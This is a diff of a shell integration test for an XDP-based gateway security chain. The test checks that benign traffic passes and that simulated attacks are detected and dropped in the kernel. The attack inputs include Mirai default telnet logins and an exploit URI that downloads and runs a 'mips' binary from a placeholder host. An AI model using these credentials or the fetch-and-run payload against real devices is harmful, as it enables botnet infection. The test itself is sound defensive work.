@@ -5,18 +5,28 @@
 # of the interface it came in on, so all that a device and a server say to each
 # other is led through the one port of the gateway:
 #
-#   device 192.0.2.1 ─ dvc ┐          ┌ gwp ═══ eth0, the chain
-#                          ├─ switch ─┤
-#   server 192.0.2.2 ─ srv ┘          └
+#   device 192.0.2.1 ─ port1 ┐
+#                            ├ switch ─ port0 ═══ eth0, the chain
+#   server 192.0.2.2 ─ port2 ┘
 #
-# What comes from dvc or srv goes to gwp; what comes back there, to where its
-# destination is, and broadcasts to whom they are not from.
+# What comes from port1 or port2 goes to port0; what comes back there, to where
+# its destination is, and broadcasts to whom they are not from.
 . "$(dirname "$0")/../lib.sh"
 
 DEVICE=192.0.2.1
 SERVER=192.0.2.2
-# shellcheck disable=SC2046 # numbers
-trap 'kill $(ip netns pids server; ip netns pids device) 2> /dev/null; cleanup; [ $FAILED -eq 0 ] || exit 1' EXIT
+
+# What is cut off does not end by itself.
+finish() {
+	local name
+	for name in device server; do
+		ip netns pids "$name" | xargs -r kill
+	done
+	[ ! -e "$PINS/eth0" ] || pin -q detach eth0
+	in_ns switch "$GALETTE" -q detach port0
+	cleanup
+}
+trap 'finish; [ $FAILED -eq 0 ] || exit 1' EXIT
 
 # ---- the wires ----
 
@@ -27,35 +37,40 @@ redirect() {
 		action mirred egress redirect dev "$to"
 }
 
-# The last 16 bits of MACs are enough to tell two.
-cable() {
-	local name=$1 port=$2 number=$3 address=$4
-	netns "$name"
-	in_ns "$name" sh -c 'echo 1 > /proc/sys/net/ipv6/conf/all/disable_ipv6'
-	ip link add "$port" netns switch type veth peer name eth0 netns "$name" address "02:00:00:00:00:0$number"
-	in_ns "$name" ethtool -K eth0 tx off tso off gso off > /dev/null
-	in_ns "$name" ip addr add "$address/24" dev eth0
-	in_ns "$name" ip link set eth0 up
-	in_ns switch ip link set "$port" up
-	in_ns switch tc qdisc add dev "$port" clsact
-	redirect "$port" gwp match u32 0 0
-	redirect gwp "$port" match u16 "$number" 0xffff at -10
+# A namespace without IPv6, whose announcements would be packets, too.
+quiet_netns() {
+	netns "$1"
+	in_ns "$1" sh -c 'echo 1 > /proc/sys/net/ipv6/conf/all/disable_ipv6
+		echo 1 > /proc/sys/net/ipv6/conf/default/disable_ipv6'
 }
 
-netns switch
-in_ns switch sh -c 'echo 1 > /proc/sys/net/ipv6/conf/all/disable_ipv6'
-ip link add eth0 type veth peer name gwp netns switch
+# AF_XDP sees checksums as they are: offload is off, and they are complete.
+# host NAME NUMBER ADDRESS: at a port of the switch. The last 16 bits of a MAC tell two.
+host() {
+	quiet_netns "$1"
+	ip link add "port$2" netns switch type veth \
+		peer name eth0 netns "$1" address "02:00:00:00:00:0$2"
+	in_ns switch ip link set "port$2" up
+	in_ns switch tc qdisc add dev "port$2" clsact
+	in_ns "$1" ip addr add "$3/24" dev eth0
+	in_ns "$1" ip link set eth0 up
+	in_ns "$1" ethtool -K eth0 tx off tso off gso off > /dev/null
+	redirect "port$2" port0 match u32 0 0
+	redirect port0 "port$2" match u16 "$2" 0xffff at -10
+}
+
+quiet_netns switch
+ip link add eth0 type veth peer name port0 netns switch
 ip link set eth0 up
-in_ns switch ip link set gwp up
-in_ns switch tc qdisc add dev gwp clsact
 ethtool -K eth0 tx off tso off gso off > /dev/null
-in_ns switch ethtool -K gwp tx off tso off gso off > /dev/null
-cable device dvc 1 $DEVICE
-cable server srv 2 $SERVER
-redirect gwp dvc match u16 0xffff 0xffff at -10 match u16 2 0xffff at -4
-redirect gwp srv match u16 0xffff 0xffff at -10 match u16 1 0xffff at -4
+in_ns switch ip link set port0 up
+in_ns switch tc qdisc add dev port0 clsact
+host device 1 $DEVICE
+host server 2 $SERVER
+redirect port0 port1 match u16 0xffff 0xffff at -10 match u16 2 0xffff at -4
+redirect port0 port2 match u16 0xffff 0xffff at -10 match u16 1 0xffff at -4
 # A veth's peer takes what XDP_TX sends if it has XDP itself.
-echo 'links = [{ from = "rx", to = ["pass"] }]' | in_ns switch "$GALETTE" attach gwp - ||
+echo 'links = [{ from = "rx", to = ["pass"] }]' | in_ns switch "$GALETTE" -q attach port0 - ||
 	fail "XDP at the other end of the gateway's wire"
 
 # ---- what is counted ----
@@ -98,11 +113,9 @@ measured() {
 
 # ---- programs ----
 
-# in_server LOG CMD ...: in the background
+# in_server NAME PROGRAM ...: in the background; what it says is in $T/NAME.log.
 in_server() {
-	local log=$1
-	shift
-	nsenter --net=/run/netns/server "$@" > "$T/$log" 2>&1 &
+	nsenter --net=/run/netns/server "${@:2}" > "$T/$1.log" 2>&1 &
 }
 
 listens() {
@@ -112,23 +125,34 @@ listens() {
 serve() {
 	mkdir "$T/www"
 	head -c 5000000 /dev/urandom > "$T/www/firmware"
-	in_server httpd.log busybox httpd -f -p 80 -h "$T/www"
-	printf '%s\n' "listener 1883 $SERVER" "allow_anonymous true" "user root" > "$T/mosquitto.conf"
-	in_server mosquitto.log mosquitto -v -c "$T/mosquitto.conf"
-	in_server dns.log dnsmasq -k --conf-file=/dev/null --no-resolv --no-hosts --user=root --pid-file= \
+	in_server http busybox httpd -f -vv -p 80 -h "$T/www"
+	printf '%s\n' "listener 1883 $SERVER" "allow_anonymous true" "user root" \
+		"log_dest stderr" "log_type subscribe" > "$T/mosquitto.conf"
+	in_server mqtt mosquitto -c "$T/mosquitto.conf"
+	in_server dns dnsmasq -k --conf-file=/dev/null --no-resolv --no-hosts --user=root --pid-file= \
 		--address=/broker.example/$SERVER
-	in_server iperf3.log iperf3 -s
+	in_server iperf3 iperf3 -s
 	# It says what it hears, to whom is there and to a file of its own.
 	printf '#!/bin/sh\nprintf "dvr login: "\nexec tee "%s/heard.$$"\n' "$T" > "$T/login"
 	printf '#!/bin/sh\necho SSH-2.0-OpenSSH_9.2p1\n' > "$T/sshd"
 	chmod +x "$T/login" "$T/sshd"
-	in_server telnet.log busybox nc -ll -p 23 -e "$T/login"
-	in_server ssh.log busybox nc -ll -p 22 -e "$T/sshd"
+	in_server telnet busybox nc -ll -p 23 -e "$T/login"
+	in_server ssh busybox nc -ll -p 22 -e "$T/sshd"
 	wait_for listens -t 80 && wait_for listens -t 1883 && wait_for listens -u 53 &&
 		wait_for listens -t 23 && wait_for listens -t 22 && wait_for listens -t 5201
 }
 
 holds "HTTP, MQTT, DNS, ssh, telnet and iperf3 listen" serve
+# A firewall on the gateway sees nothing of what the chain sends on.
+holds "the gateway's own firewall refuses all" nft -f - << 'RULES'
+table netdev gateway {
+	chain in {
+		type filter hook ingress device eth0 priority 0; policy accept;
+		counter name refused drop
+	}
+	counter refused { }
+}
+RULES
 
 expect 0 "attach" pin attach eth0 "$ROOT/chains/security.toml" || exit
 equal "… without a warning" "" "$(cat "$T/err")"
@@ -144,133 +168,166 @@ download() {
 	in_ns device curl -sS -o "$T/firmware" "http://$SERVER/firmware"
 }
 
-measured "HTTP, a download of 5 MB" download
-holds "curl has got all of it" cmp "$T/www/firmware" "$T/firmware"
-holds "… of $LOOKED packets only the first $LEFT have left the kernel" \
-	test "$LOOKED" -gt 3400 -a "$LEFT" -gt 8 -a "$LEFT" -lt 200
-
 tell() {
-	for i in {1..200}; do
-		echo "$i: the temperature in the living room is 21.5 degrees"
-	done > "$T/told"
+	local sub
+	seq -f "%g: the temperature in the living room is 21.5 degrees" 200 > "$T/told"
 	in_ns device mosquitto_sub -h $SERVER -t home/room -q 1 -C 200 > "$T/got" &
-	local sub=$!
-	wait_for grep -q 'Received SUBSCRIBE from' "$T/mosquitto.log"
+	sub=$!
+	wait_for grep -q home/room "$T/mqtt.log"
 	in_ns device mosquitto_pub -h $SERVER -t home/room -q 1 -l < "$T/told"
 	wait $sub
 }
 
-measured "MQTT, 200 messages there and back" tell
-holds "the subscriber has got them all" cmp "$T/told" "$T/got"
-
-measured "DNS" in_ns device busybox nslookup broker.example $SERVER > "$T/out" 
-prints "DNS answers" "Address: $SERVER"
+resolve() {
+	in_ns device busybox nslookup broker.example $SERVER > "$T/out"
+}
 
 banner() {
-	in_ns device busybox nc -w 2 $SERVER 22 < /dev/null > "$T/out"
+	in_ns device nc -d $SERVER 22 > "$T/out"
 }
+
+stream() {
+	in_ns device iperf3 -J -n 20M -c $SERVER > "$T/out"
+}
+
+measured "HTTP, a download of 5 MB" download
+holds "curl has got all of it" cmp "$T/www/firmware" "$T/firmware"
+holds "only the first packets have left the kernel" \
+	test "$LOOKED" -gt 3400 -a "$LEFT" -gt 8 -a "$LEFT" -lt 200
+measured "MQTT, 200 messages there and back" tell
+holds "the subscriber has got them all" cmp "$T/told" "$T/got"
+holds "only the first packets have left the kernel" \
+	test "$LOOKED" -gt "$LEFT" -a "$LEFT" -gt 16 -a "$LEFT" -lt 150
+measured "DNS" resolve
+prints "the name is found" "Address: $SERVER"
 measured "ssh" banner
-prints "ssh's banner comes" "^SSH-2.0-OpenSSH"
-
-measured "iperf3, both ways" in_ns device iperf3 -c $SERVER -t 1 --bidir > "$T/out" 2>&1
-prints "iperf3 has measured" "sender"
-holds "… of $LOOKED packets only $LEFT have left the kernel" test "$LEFT" -lt $((LOOKED / 10))
-
-# nft on the gateway, in the way of the stack but not of the chain.
-if command -v nft > /dev/null && nft add table ip t && nft add chain ip t in \
-	'{ type filter hook prerouting priority 0; policy drop; }'; then
-	holds "nft beside it drops nothing of it" in_ns device ping -q -c 2 -i 0.05 $SERVER
-	nft delete table ip t
-else
-	skip "nft beside it" "no nft here"
-fi
-snap
-equal "nothing of all that was an attack" "0 0" "$(packets weak-classifier:attack) $(packets dpi:attack)"
+prints "the banner is there" "SSH-2.0-OpenSSH_9.2p1"
+measured "iperf3, 20 MiB" stream
+json "it has been sent" '.end.sum_sent.bytes >= 20 * 1048576 and .end.sum_received.bytes > 0'
+holds "only the first packets have left the kernel" \
+	test "$LOOKED" -gt 7000 -a "$LEFT" -gt 16 -a "$LEFT" -lt 400
 
 # ---- bad ones ----
 
-# login TEXT ...: to the telnet port, a part after the other.
-login() {
-	local part
-	mkfifo "$T/typed"
-	nsenter --net=/run/netns/device busybox nc $SERVER 23 < "$T/typed" > "$T/telnet" 2>&1 &
-	NC=$!
-	exec 9> "$T/typed"
-	wait_for grep -q login "$T/telnet"
-	for part; do
-		printf '%b' "$part" >&9
-	done
-}
-hung_up() {
-	exec 9>&-
-	kill $NC 2> /dev/null
-	wait $NC 2> /dev/null
-	rm "$T/typed"
-}
-# A packet more than $1 has been refused in the kernel.
-refused() {
-	above weak-classifier:attack "$1"
+# call: a telnet connection, $WIRE to write to; what it says is in $T/screen.
+call() {
+	: > "$T/screen"
+	exec {WIRE}> >(exec nsenter --net=/run/netns/device nc $SERVER 23 > "$T/screen" 2>&1)
+	CALLER=$!
+	wait_for grep -q "login: " "$T/screen"
 }
 
-# heard TEXT: the login program got it.
+hang_up() {
+	kill "$CALLER"
+	wait "$CALLER" 2> /dev/null
+	exec {WIRE}>&-
+}
+
+# type_in WORD: and wait until it has come back.
+type_in() {
+	printf '%s' "$1" >&"$WIRE"
+	wait_for grep -q "$1" "$T/screen"
+}
+
 heard() {
-	grep -qs "$1" "$T"/heard.*
+	cat "$T"/heard.*
 }
-login 'user\r\n'
-wait_for heard user
-holds "an honest login is heard" heard user
-hung_up
 
-snap
-attacks=$(packets dpi:attack)
-login 'root\r\n' 'xc3511\r\n'
-wait_for above dpi:attack "$attacks"
-holds "a Mirai login is an attack" above dpi:attack "$attacks"
-snap
-left=$(upcalls) dropped=$(packets weak-classifier:attack)
-# TCP tries again and again, and the one who typed goes on.
-printf '/bin/busybox MIRAI\r\n' >&9
-wait_for refused $((dropped + 2))
-snap
-echo "# the rest of that connection: $(($(packets weak-classifier:attack) - dropped)) packets refused in the kernel, $(($(upcalls) - left)) left it"
-holds "what follows is refused in the kernel" refused $((dropped + 2))
-equal "… and nothing of it leaves the kernel" "$left" "$(upcalls)"
-equal "the server has not heard it" "" "$(grep -ls 'xc3511\|MIRAI' "$T"/heard.*)"
-hung_up
-pin -j map eth0 flow-state > "$T/out"
-json "the flow is stamped so in the map that both share" \
-	'[.[] | select(.value.attack == 1 and (.key.src_port == 23 or .key.dst_port == 23))] | length == 1'
-json "… and benign ones so" '[.[] | select(.value.benign == 1 and .value.attack == 0)] | length > 0'
-
-snap
-attacks=$(packets dpi:attack)
-login 'root\r\n7ujMko' '0admin\r\n'
-wait_for above dpi:attack "$attacks"
-holds "a login in two parts is one" above dpi:attack "$attacks"
-hung_up
-
-snap
-attacks=$(packets dpi:attack)
-in_ns device curl -sS -m 2 -o /dev/null "http://$SERVER/GponForm/diag_Form?images/" 2> "$T/err"
-equal "an exploit's URI gets no answer" 28 $?
-holds "… it is an attack" above dpi:attack "$attacks"
-holds "and everybody else goes on" in_ns device curl -sS -o "$T/again" "http://$SERVER/firmware"
-holds "… without a byte of difference" cmp "$T/www/firmware" "$T/again"
-
-# ---- the end ----
-
-expect 0 "show" pin show eth0
-grep -E "link|upcall|slow path|pipe" "$T/out" | indent
-frames_whole() {
-	[ "$(slow_show '.frames | .fill == .total and .hand == 0')" = true ]
+# stays_out WHAT CMD ...: CMD sends more of a flow that has been found out. All that
+# comes of it ends in the kernel: at least four packets more, of which none leaves it.
+stays_out() {
+	local what=$1 left attack
+	shift
+	snap
+	left=$(upcalls)
+	attack=$(packets weak-classifier:attack)
+	"$@"
+	wait_for above weak-classifier:attack $((attack + 3))
+	echo "# $what: cut off, $(($(packets weak-classifier:attack) - attack)) more packets refused in the kernel"
+	equal "$what: none of them leaves the kernel" "$left" "$(upcalls)"
 }
-wait_for frames_whole
-holds "every frame is in its ring: $(slow_show '.frames | tostring')" frames_whole
-equal "galette-slow is the same, and lost nothing" "$SLOW 0" \
-	"$(slow_show '"\(.pid) \([.pipes[] | .lost[], .crashes] | add)"')"
+
+more() {
+	printf 'enable\r\nshell\r\n' >&"$WIRE"
+}
+
+# login WHAT SID PART ...: type in the parts, of which the last is one too many.
+login() {
+	local what=$1 sid=$2 part attack
+	shift 2
+	call
+	type_in "root"
+	for part in "${@:1:$# - 1}"; do
+		type_in "$part"
+	done
+	snap
+	attack=$(packets dpi:attack)
+	printf '%s' "${*: -1}" >&"$WIRE"
+	holds "$what is found out" wait_for above dpi:attack "$attack"
+	stays_out "$what" more
+	equal "$what: the server has not heard the end of it" 0 "$(heard | grep -Ec "${*: -1}|enable")"
+	equal "$what: the client has no answer any more" 0 "$(grep -Ec "${*: -1}|enable" "$T/screen")"
+	equal "$what: hits of rule $sid" 1 "$(pin map eth0 hits get "$sid")"
+	hang_up
+}
+
+call
+type_in "alice correct horse battery staple"
+ok "a login that Mirai does not try"
+hang_up
+login "a Mirai login" 1000001 "xc3511"
+login "a Mirai login in two segments" 1000002 "viz" "xv"
+
+snap
+ATTACKS=$(packets dpi:attack)
+nsenter --net=/run/netns/device curl -sS -o "$T/answer" \
+	"http://$SERVER/shell?cd+/tmp;wget+http://192.0.2.66/mips;chmod+777+mips;./mips" &
+CURL=$!
+holds "an exploit's URI is found out" wait_for above dpi:attack "$ATTACKS"
+stays_out "an exploit's URI" :
+equal "an exploit's URI: the server has not heard it" 0 "$(grep -c shell "$T/http.log")"
+holds "an exploit's URI: curl waits for an answer" kill -0 $CURL
+kill $CURL
+wait $CURL 2> /dev/null
+holds "a good client of the same server is served" download
+
+# ---- what is known of the flows, and what became of all packets ----
+
+pin map eth0 flow-state > "$T/flows"
+# flows PORT FIELD: how many to that port have a 1 there.
+flows() {
+	grep "dst_port=$1," "$T/flows" | grep -c "\b$2=1\b"
+}
+equal "telnet: flows that are attacks" 2 "$(flows 23 attack)"
+equal "HTTP: flows that are attacks" 1 "$(flows 80 attack)"
+equal "HTTP: flows that are benign" 2 "$(flows 80 benign)"
+holds "MQTT: flows that are benign" test "$(flows 1883 benign)" -ge 1
+holds "iperf3: flows that are benign" test "$(flows 5201 benign)" -ge 1
+equal "the others are not decided yet" "$(grep -c . "$T/flows")" \
+	"$(($(grep -c "attack=1" "$T/flows") + $(grep -c "benign=1" "$T/flows") + $(grep -c "benign=0,attack=0" "$T/flows")))"
+
+accounted() {
+	snap
+	jq -e '(.links[] | select(.upcall)) as $up | .slowpath.frames as $f |
+		.missed == 0 and $up.upcall == { sent: $up.packets, absent: 0, lost: 0 } and
+		$up.packets == ([.links[] | select(.from == "dpi") | .packets] | add) and
+		$up.packets == ([.slowpath.pipes[].packets] | add) and
+		([.slowpath.pipes[] | .lost[], .crashes] | add) == 0 and
+		$f.total == $f.fill + $f.rx + $f.tx + $f.completion + $f.hand' "$T/show"
+}
+# A packet may be on its way.
+wait_for accounted
+holds "each packet and each frame of the slow path is accounted for" accounted
+equal "one galette-slow has run all the time" "$SLOW" "$(jq .slowpath.pid "$T/show")"
+equal "packets that the gateway's firewall has seen" 0 \
+	"$(nft -j list counters | jq '.nftables[] | .counter? | select(.) | .packets')"
+pin show eth0 | grep -E '^  (link|upcall|slow path|pipe)' | indent
+
+# ---- and away ----
+
 expect 0 "detach" pin detach eth0
-holds "galette-slow has gone with it" test ! -d "/proc/$SLOW/fd" -o -z "$(ls "/proc/$SLOW/fd" 2> /dev/null)"
-in_ns switch "$GALETTE" -q detach gwp
-# shellcheck disable=SC2046 # numbers
-kill $(ip netns pids server; ip netns pids device) 2> /dev/null
-wait
+galette_slow_ended() {
+	[ "$(slow_processes)" = 0 ]
+}
+holds "galette-slow and its pipes have gone" wait_for galette_slow_ended
+equal "no pin is left" "" "$(find "$PINS/eth0" -mindepth 1 2> /dev/null)"
